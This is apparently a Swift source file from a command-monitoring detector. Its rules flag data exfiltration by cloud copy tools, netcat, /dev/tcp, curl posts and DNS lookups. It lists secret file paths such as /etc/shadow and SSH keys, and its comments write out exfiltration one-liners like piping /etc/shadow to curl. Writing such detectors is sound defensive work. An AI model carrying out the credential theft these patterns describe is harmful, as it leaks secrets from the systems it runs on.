import Bytes
import Evidence

extension BehaviourRule {
  private static let copiers = NameTable([
    "aws", "rclone", "gsutil", "gcloud", "azcopy", "s3cmd", "mc", "scp", "rsync", "sftp",
  ])
  private static let senders = NameTable(["nc", "ncat", "netcat", "curl", "wget", "socat", "ssh", "openssl"])
  private static let makers = NameTable([
    "tar", "zip", "7z", "7za", "rar", "gzip", "xz", "zstd", "mysqldump", "pg_dump", "pg_dumpall", "mongodump", "cpio",
  ])
  private static let readers = NameTable([
    "cat", "base64", "xxd", "gzip", "openssl", "head", "dd", "hexdump", "od", "gpg",
  ])

  private static let secrets = LiteralSet(exact: [
    "/etc/shadow", "/etc/gshadow", ".aws/credentials", "/.aws", ".kube/config", ".docker/config.json", "id_rsa",
    "id_dsa",
    "id_ed25519", "id_ecdsa", ".git-credentials", ".pgpass", ".my.cnf", "/.ssh", ".gnupg", "/etc/krb5.keytab",
    "kubernetes/pki",
    "/etc/ssl/private", "wp-config.php", ".pem", "ntds.dit", "serviceaccount/token",
  ])
  private static let archives: [StaticString] = [
    ".tgz", ".tar", ".zip", ".7z", ".rar", ".sql", ".dump", ".tar.gz", ".tar.xz", ".sql.gz", ".bak",
  ]

  /// Whether a word is the path of a secret: not of the public half of a key.
  private static func isSecret(_ word: ByteView) -> Bool { !word.hasSuffix(".pub") && secrets.occurs(in: word) }

  private static func isArchive(_ word: ByteView) -> Bool {
    archives.contains { word.firstIndex(of: ByteView($0)) != nil }
  }

  /// The words of a command that name what it sends, `-i KEY` and the like, by which it logs in, left out.
  private static func payload(_ words: WordRun) -> [ByteView] {
    var found: [ByteView] = []
    var isValue = false
    for word in words.dropFirst().prefix(64) {
      if isValue {
        isValue = false
      } else if word == "-i" || word == "-F" || word == "-o" || word == "-e" || word == "-P" || word == "-p"
        || word == "--profile"
      {
        isValue = true
      } else if word[0] != 0x2D || word.firstIndex(of: 0x3D) != nil {
        found.append(word)
      }
    }
    return found
  }

  /// What the commands before an upload made or read, and whether the upload speaks of it.
  private static func judge(_ it: BehaviourText, _ index: Int, _ sent: [ByteView], target: ByteView?) -> Severity? {
    var upload = Upload()
    upload.isSecret = sent.contains(where: isSecret)
    upload.isArchive = sent.contains(where: isArchive)
    let made = (max(0, index - 8)..<index).filter { makers.contains(it.tools[$0]) }
    if !made.isEmpty {
      upload.isSecret = upload.isSecret || made.contains { it.programs[$0].contains(where: isSecret) }
      upload.isArchive = true
      upload.isFresh = sent.contains { word in
        (BehaviourText.temporary.contains { word.firstIndex(of: ByteView($0)) != nil }
          || word.firstIndex(of: ByteView("/.")) != nil)
          && made.contains { it.programs[$0].contains { $0.count > 4 && word.hasPrefix($0) } }
      }
    }
    if let target {
      upload.isPublic = isPublicHost(target)
      upload.isPrivate = !upload.isPublic && isAddress(target)
      upload.isCloud = target.firstIndex(of: ByteView("://")) != nil || it.tools[index] == "rclone"
      upload.isBackup = ["backup", "bkp", "bak-", "archive"].contains { target.firstIndex(of: ByteView($0)) != nil }
    } else {
      upload.isPublic = it.namesPublicAddress
      upload.isPrivate = !upload.isPublic && it.namesAddress
    }
    return upload.severity
  }

  /// Without who logs in and what follows the host.
  private static func host(_ target: ByteView) -> ByteView {
    var rest = target
    if let scheme = rest.firstIndex(of: ByteView("://")) { rest = rest.slice(scheme + 3) }
    if let at = rest.firstIndex(of: 0x40) { rest = rest.slice(at + 1) }
    var end = 0
    while end < rest.count, rest[end] != 0x3A, rest[end] != 0x2F { end += 1 }
    return rest.slice(0, end)
  }

  private static func isAddress(_ target: ByteView) -> Bool {
    let host = host(target)
    return host[0] >= 0x30 && host[0] <= 0x39 && AddressText.isIPv4(host.string) || host == "localhost"
  }

  private static func isPublicHost(_ target: ByteView) -> Bool {
    isAddress(target) && !AddressText.isPrivate(host(target).string)
  }

  private static let copyVerbs = NameTable([
    "cp", "sync", "mv", "copy", "move", "copyto", "moveto", "put", "rsync", "mirror", "storage",
  ])

  /// A copy's target outside of the host, if it has one: `s3://…`, `remote:path`, `user@host:path`.
  private static func target(_ tool: ByteView, _ words: [ByteView]) -> ByteView? {
    guard let last = words.last(where: { !ShellWords.isRedirection($0) }), words.count >= 2 else { return nil }
    if tool == "scp" || tool == "rsync" || tool == "sftp" || tool == "rclone" {
      guard let colon = last.firstIndex(of: 0x3A), colon > 0, last[0] != 0x2F, last[0] != 0x2E else { return nil }
      return last
    }
    guard words.contains(where: { copyVerbs.contains($0) }) else { return nil }
    let isRemote = ["s3://", "gs://", "https://"].contains { last.hasPrefix(ByteView($0)) }
    return isRemote || tool == "mc" && last.firstIndex(of: 0x2F) != nil ? last : nil
  }

  /// Data leaving by the tools that administrators copy with: what is sent, and where to, tells one from the other.
  static let exfiltrationRules: [BehaviourRule] = [
    BehaviourRule(
      "copy-out", "Files copied out of the host", .low, ["T1048", "T1537", "T1560.001"],
      leads: [
        "s3 cp", "s3 sync", "s3 mv", "s3cmd ", "rclone ", "gsutil ", "azcopy ", "storage cp", "mc cp", "scp ", "rsync ",
        "sftp ",
      ]
    ) { it in
      var worst: Severity?
      for index in it.marks(copiers).places.prefix(maximumUploads) {
        let sent = payload(it.programs[index])
        guard let target = target(it.tools[index], sent) else { continue }
        let files = sent.filter { !($0 == target) && !copyVerbs.contains($0) && !($0 == "s3") }
        // From elsewhere to elsewhere nothing leaves the host.
        if files.allSatisfy({ $0.hasPrefix("s3://") || $0.hasPrefix("gs://") }) { continue }
        if let one = judge(it, index, files, target: target) { worst = max(worst ?? one, one) }
      }
      return worst
    },
    BehaviourRule(
      "raw-copy-out", "File sent over a bare connection", .low, ["T1048.003", "T1041"],
      leads: [
        "nc ", "ncat ", "netcat ", "/dev/tcp/", "/dev/udp/", "socat ", "ssh ", "curl ", "openssl s_client", "nslookup ",
        "dig ", "wget ",
      ]
    ) { it in
      var worst = [asksForSecrets(it), SubstitutedUpload.severity(it, isSecret: isSecret)].compactMap { $0 }.max()
      // What is asked of the whole text is asked once.
      let facts = (
        posts: it.hasAny(["@-", "-T -", "-T-"]), isTLS: it.has("s_client"),
        hasDevice: it.hasAny(["/dev/tcp/", "/dev/udp/"])
      )
      let sends = it.marks(senders)
      let devices = facts.hasDevice ? it.commands(naming: ["/dev/tcp/", "/dev/udp/"]) : []
      var left = maximumUploads
      for index in it.tools.indices where left > 0 && (sends[index] || !devices.isEmpty && devices[index]) {
        left -= facts.hasDevice ? 0 : 1
        guard let one = rawCopy(it, index, facts) else { continue }
        worst = max(worst ?? one, one)
      }
      return worst
    },
  ]

  /// `cat FILE | nc HOST PORT`, `nc HOST PORT < FILE`, `tar c … | ssh HOST`, `cat FILE > /dev/tcp/HOST/PORT`.
  private static func rawCopy(
    _ it: BehaviourText, _ index: Int, _ facts: (posts: Bool, isTLS: Bool, hasDevice: Bool)
  ) -> Severity? {
    let words = it.programs[index]
    let command = it.commands[index]
    if facts.hasDevice,
      let device = words.first(where: {
        $0.firstIndex(of: ByteView("/dev/tcp/")) != nil || $0.firstIndex(of: ByteView("/dev/udp/")) != nil
      })
    {
      // Something that reads a file, with its output there; a pipe's first part may be what reads it.
      guard let place = device.firstIndex(of: ByteView("p/")),
        readers.contains(it.tools[index]) || makers.contains(it.tools[index])
      else {
        return nil
      }
      let isOutput = words.contains { $0[0] == 0x3E || $0.hasPrefix("1>") }
      guard isOutput else { return nil }
      let files = source(it, index)
      return files.isEmpty ? nil : judge(it, index, files, target: device.slice(place + 2))
    }
    guard senders.contains(it.tools[index]) else { return nil }
    if it.tools[index] == "curl" || it.tools[index] == "wget" { return facts.posts ? postedPipe(it, index) : nil }
    // `nc HOST PORT < FILE`
    var files: [ByteView] = []
    for (place, word) in zip(words.indices, words) where word[0] == 0x3C && word[1] != 0x26 && word[1] != 0x3C {
      let file = word.count > 1 ? word.slice(1) : command.word(place + 1)
      if file[0] != 0x28 { files.append(file) }
    }
    if files.isEmpty, command.before == 0x7C, index > 0, !(it.tools[index] == "openssl") || facts.isTLS {
      files = source(it, index - 1)
    }
    guard !files.isEmpty,
      !words.contains(where: { $0 == "-l" || $0 == "-lp" || $0 == "-lvp" || $0 == "-lvnp" || $0 == "-U" })
    else {
      return nil
    }
    // A login is how disks and folders are moved between one's own machines: only secrets count.
    if it.tools[index] == "ssh" {
      return files.contains(where: isSecret)
        ? judge(it, index, files, target: words.dropFirst().first { $0[0] != 0x2D }) : nil
    }
    return judge(it, index, files, target: nil)
  }

  /// What the parts of a pipe up to a command read: `cat /etc/shadow | base64 -w0 |`.
  private static func source(_ it: BehaviourText, _ last: Int) -> [ByteView] {
    var index = last
    var steps = 0
    while index > 0, it.commands[index].before == 0x7C, steps < 4 {
      index -= 1
      steps += 1
    }
    guard readers.contains(it.tools[index]) || makers.contains(it.tools[index]) else { return [] }
    return it.programs[index].dropFirst().filter { word in
      word[0] != 0x2D && word[0] != 0x3E && word[0] != 0x32 && word.integer == nil && !word.hasPrefix("/dev/")
        && !word.hasPrefix("/proc/")
    }
  }

  /// `cat /etc/shadow | curl -d @- http://…`
  private static func postedPipe(_ it: BehaviourText, _ index: Int) -> Severity? {
    guard it.commands[index].before == 0x7C, index > 0 else { return nil }
    let files = source(it, index - 1)
    return files.contains(where: isSecret) ? judge(it, index, files, target: nil) : nil
  }

  /// Whether curl or wget is told to send a file that is a secret.
  static func uploadsSecret(_ it: BehaviourText) -> Bool {
    it.running(NameTable(["curl", "wget"])).contains { words in
      zip(words, words.dropFirst()).contains { flag, value in
        if let mark = value.firstIndex(of: 0x40), mark == 0 || value[mark - 1] == 0x3D {
          return isSecret(value.slice(mark))
        }
        if value.hasPrefix("--post-file=") || value.hasPrefix("--body-file=") || value.hasPrefix("--upload-file=") {
          return isSecret(value)
        }
        return (flag == "-T" || flag == "--upload-file" || flag == "--post-file") && isSecret(value)
      }
    }
  }

  /// `for b in $(xxd -p FILE); do dig $b.example.com; done`: a file read and asked for in names.
  private static func asksForSecrets(_ it: BehaviourText) -> Severity? {
    let asks = it.running(resolvers).contains { words in
      words.contains { $0[0] == 0x24 && $0.firstIndex(of: 0x2E) != nil || $0.firstIndex(of: ByteView("}.")) != nil }
    }
    guard asks else { return nil }
    let reads = it.running(readers).contains { words in words.dropFirst().contains { $0[0] == 0x2F } }
    guard reads else { return nil }
    return secrets.occurs(in: it.text) ? .high : .medium
  }

  private static let resolvers = NameTable(["dig", "nslookup", "host"])
  /// Of one text: a command line has a few.
  private static let maximumUploads = 256
}
